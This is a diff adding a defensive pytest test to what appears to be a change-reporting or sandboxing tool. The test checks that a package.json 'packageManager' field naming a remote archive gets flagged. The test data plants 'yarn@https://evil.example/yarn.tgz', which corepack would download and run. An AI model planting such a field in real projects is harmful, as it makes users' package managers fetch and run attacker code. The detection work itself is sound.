@@ -522,3 +522,19 @@ def test_folder_that_can_be_listed_but_not_searched_is_named(lnk, work):
         assert "sub" in flags or "sub/.git" in flags, (flags, cp.stderr)
     finally:
         (work / "sub").chmod(0o755)  # so pytest can remove it
+
+
+def test_package_json_naming_a_package_manager_flagged(lnk, work):
+    """Invariant 8 (what runs outside later), the changes report. Threat: a
+    package.json without scripts but with `"packageManager":
+    "yarn@https://host/x.tgz"`: corepack downloads and runs that archive
+    as the user's next yarn (or pnpm) in the folder. The report read a
+    package.json for its scripts only, and named nothing."""
+    (work / "package.json").write_text('{"name":"app"}\n')
+    cp = lnk.run("--write", work, "--name", "pm", "--", "/bin/sh", "-c",
+                 "printf '%s\\n' '{\"name\":\"app\",\"packageManager\":"
+                 "\"yarn@https://evil.example/yarn.tgz\"}' > package.json",
+                 cwd=work)
+    assert cp.returncode == 0, cp.stderr
+    flags = changes_flags(lnk, "pm")
+    assert "packageManager" in flags.get("package.json", ""), flags
